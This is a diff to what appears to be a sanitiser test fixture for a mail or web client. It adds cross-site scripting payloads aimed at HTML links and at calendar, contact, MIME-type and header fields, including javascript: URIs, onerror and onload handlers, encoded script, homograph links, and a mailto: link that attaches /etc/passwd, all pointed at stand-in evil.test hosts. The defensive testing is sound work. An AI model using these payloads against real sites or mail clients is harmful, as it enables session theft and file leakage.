@@ -38,6 +38,8 @@ ESCAPES = (
     "<map name=m><area shape=default href='javascript:top.pwn()' target=_top></map><img usemap=#m>",
     "<svg><a xlink:href='javascript:top.pwn()'><text>x</text></a></svg>",
     "<math><mi href='javascript:top.pwn()'>x</mi></math>",
+    "<a href='https://xn--80ak6aa92e.test/\" onclick=\"pwn()'>аррӏе.test</a>",
+    "<a href='http://example.test@evil.test/' target=_top>x</a>",
     # forms, sent: they would change mail or settings with the person's cookie, or carry it away
     "<form action=/sign-out/ method=post><button>x</button></form>",
     "<form action=/settings/preferences/ method=post><input name=theme value=dark><button>x</button></form>",
@@ -87,4 +89,30 @@ TEXTS = (
     "' autofocus onfocus=pwn() x='",
 )
 
+# For parts that have a form of their own: calendars, contacts, types of parts, links in header fields.
+FIELDS = (
+    'X";TYPE=<img src=x onerror=pwn()>:x',
+    "=3Cscript=3Epwn()=3C/script=3E",
+    "<html><body><svg onload=pwn()></svg></body></html>",
+    "mailto:x@evil.test?attach=/etc/passwd&body=<script>pwn()</script>",
+    "<javascript:pwn()>, <https://evil.test/>",
+    "<data:text/html,<script>pwn()</script>>",
+    'cid:x@evil.test"onerror="pwn()',
+    "text/html<script>pwn()</script>",
+    "image/svg+xml;x=<svg onload=pwn()>",
+    'application/pdf"><img src=x onerror=pwn()>',
+    "../../<img src=x onerror=pwn()>.html",
+    "pass (<img src=x onerror=pwn()>) header.d=evil.test",
+    "dns; <script>pwn()</script>",
+    "rfc822; <img src=x onerror=pwn()>@evil.test",
+    "\\n<img src=x onerror=pwn()>\\,\\;",
+    "base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
+    "<bold><param><img src=x onerror=pwn()></param></bold>",
+    "[x](javascript:pwn()) ![x](https://evil.test/a.gif)",
+    "{\\rtf1 {\\field{\\*\\fldinst HYPERLINK javascript:pwn()}{\\fldrslt x}}}",
+    "\u202e<img src=x onerror=pwn()>\u202c",
+    "\u2028<script>pwn()</script>\u2029",
+    "<a href=javascript:pwn()>+1 555 0100</a>",
+    "geo:0,0?q=<img src=x onerror=pwn()>",
+)
 FRAMED = (*RUNS, *LOADS, *LEAVES, *ESCAPES)
